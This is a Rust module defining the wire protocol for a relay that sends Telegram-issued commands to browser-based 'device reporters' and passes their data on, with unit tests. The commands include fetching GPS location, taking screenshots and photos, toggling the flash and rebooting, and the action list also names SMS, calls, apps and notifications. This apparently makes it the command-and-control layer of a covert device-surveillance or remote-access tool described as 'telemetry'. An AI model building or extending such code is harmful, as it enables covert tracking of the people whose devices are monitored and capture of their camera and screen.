//! Vocabulary of the real-time channel between the relay and device
//! telemetry reporters.
//!
//! Frames are JSON objects tagged by `event`. The relay never stores device
//! data; snapshots and readings are passed through to other listeners.

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use serde_json::Value;

use crate::command::Action;

/// Device status as reported by the browser client.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct DeviceSnapshot {
    #[serde(default)]
    pub platform: Option<String>,
    #[serde(default)]
    pub user_agent: Option<String>,
    /// Browser locale, e.g. `id-ID`.
    #[serde(default)]
    pub language: Option<String>,
    #[serde(default)]
    pub timezone: Option<String>,
    /// Screen dimensions as `WIDTHxHEIGHT`.
    #[serde(default)]
    pub screen: Option<String>,
    /// Battery level, e.g. `"87%"`; absent when the Battery API is unavailable.
    #[serde(default)]
    pub battery: Option<Value>,
    #[serde(default)]
    pub location: Option<GeoFix>,
    #[serde(default)]
    pub timestamp: Option<DateTime<Utc>>,
}

/// Last known coordinates of a device.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct GeoFix {
    pub lat: f64,
    pub lng: f64,
    #[serde(default)]
    pub accuracy: Option<f64>,
}

/// Action the relay asks a reporter to perform.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum DeviceCommand {
    GetBattery,
    GetLocation,
    GetDeviceInfo,
    TakeScreenshot,
    TakePhoto,
    FlashToggle,
    Reboot,
}

impl DeviceCommand {
    pub fn as_str(&self) -> &'static str {
        match self {
            DeviceCommand::GetBattery => "get_battery",
            DeviceCommand::GetLocation => "get_location",
            DeviceCommand::GetDeviceInfo => "get_device_info",
            DeviceCommand::TakeScreenshot => "take_screenshot",
            DeviceCommand::TakePhoto => "take_photo",
            DeviceCommand::FlashToggle => "flash_toggle",
            DeviceCommand::Reboot => "reboot",
        }
    }
}

impl Action {
    /// The reporter command this action triggers, if it involves the device.
    pub fn device_command(&self) -> Option<DeviceCommand> {
        match self {
            Action::Battery => Some(DeviceCommand::GetBattery),
            Action::Location => Some(DeviceCommand::GetLocation),
            Action::DeviceInfo => Some(DeviceCommand::GetDeviceInfo),
            Action::Screenshot => Some(DeviceCommand::TakeScreenshot),
            Action::Camera => Some(DeviceCommand::TakePhoto),
            Action::FlashToggle => Some(DeviceCommand::FlashToggle),
            Action::Reboot => Some(DeviceCommand::Reboot),
            Action::Start
            | Action::Help
            | Action::Status
            | Action::Apps
            | Action::Notifications
            | Action::SendSms { .. }
            | Action::Call { .. }
            | Action::Unknown(_) => None,
        }
    }
}

/// Frames sent by a reporter to the relay.
#[derive(Debug, Clone, PartialEq, Deserialize)]
#[serde(tag = "event", rename_all = "snake_case")]
pub enum ReporterFrame {
    DeviceRegister {
        #[serde(rename = "deviceId")]
        device_id: String,
        #[serde(rename = "deviceInfo", default)]
        device_info: DeviceSnapshot,
    },
    DeviceData {
        #[serde(rename = "deviceId")]
        device_id: String,
        /// Reading kind: `device_info`, `location`, `battery`, ...
        #[serde(rename = "type")]
        kind: String,
        #[serde(default)]
        data: Value,
    },
}

/// Frames pushed by the relay to connected reporters and dashboards.
#[derive(Debug, Clone, PartialEq, Serialize)]
#[serde(tag = "event", rename_all = "snake_case")]
pub enum RelayFrame {
    TelegramCommand {
        command: DeviceCommand,
        #[serde(rename = "chatId")]
        chat_id: String,
    },
    DeviceConnected {
        #[serde(rename = "deviceId")]
        device_id: String,
    },
    DeviceDisconnected {
        #[serde(rename = "deviceId")]
        device_id: String,
    },
    DeviceData {
        #[serde(rename = "deviceId")]
        device_id: String,
        #[serde(rename = "type")]
        kind: String,
        data: Value,
    },
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn test_register_frame_from_browser_shape() {
        let frame: ReporterFrame = serde_json::from_value(json!({
            "event": "device_register",
            "deviceId": "device_abc123_1700000000",
            "deviceInfo": {
                "platform": "Linux armv8l",
                "userAgent": "Mozilla/5.0",
                "language": "id-ID",
                "timezone": "Asia/Jakarta",
                "screen": "1080x2400",
                "battery": null,
                "location": null
            }
        }))
        .unwrap();

        match frame {
            ReporterFrame::DeviceRegister {
                device_id,
                device_info,
            } => {
                assert_eq!(device_id, "device_abc123_1700000000");
                assert_eq!(device_info.timezone.as_deref(), Some("Asia/Jakarta"));
                assert!(device_info.battery.is_none());
                assert!(device_info.location.is_none());
            }
            other => panic!("unexpected frame {other:?}"),
        }
    }

    #[test]
    fn test_data_frame_keeps_payload_verbatim() {
        let frame: ReporterFrame = serde_json::from_value(json!({
            "event": "device_data",
            "deviceId": "d1",
            "type": "location",
            "data": {"lat": -6.2, "lng": 106.8, "accuracy": 12.5}
        }))
        .unwrap();
        assert_eq!(
            frame,
            ReporterFrame::DeviceData {
                device_id: "d1".to_string(),
                kind: "location".to_string(),
                data: json!({"lat": -6.2, "lng": 106.8, "accuracy": 12.5}),
            }
        );
    }

    #[test]
    fn test_command_frame_wire_shape() {
        let frame = RelayFrame::TelegramCommand {
            command: DeviceCommand::GetLocation,
            chat_id: "123".to_string(),
        };
        assert_eq!(
            serde_json::to_value(&frame).unwrap(),
            json!({"event": "telegram_command", "command": "get_location", "chatId": "123"})
        );
    }

    #[test]
    fn test_device_command_names_match_serde() {
        for cmd in [
            DeviceCommand::GetBattery,
            DeviceCommand::GetLocation,
            DeviceCommand::GetDeviceInfo,
            DeviceCommand::TakeScreenshot,
            DeviceCommand::TakePhoto,
            DeviceCommand::FlashToggle,
            DeviceCommand::Reboot,
        ] {
            assert_eq!(serde_json::to_value(cmd).unwrap(), json!(cmd.as_str()));
        }
    }

    #[test]
    fn test_only_device_actions_map_to_commands() {
        assert_eq!(Action::Battery.device_command(), Some(DeviceCommand::GetBattery));
        assert_eq!(Action::Camera.device_command(), Some(DeviceCommand::TakePhoto));
        assert_eq!(Action::Help.device_command(), None);
        assert_eq!(
            Action::Call {
                number: "1".to_string()
            }
            .device_command(),
            None
        );
    }
}
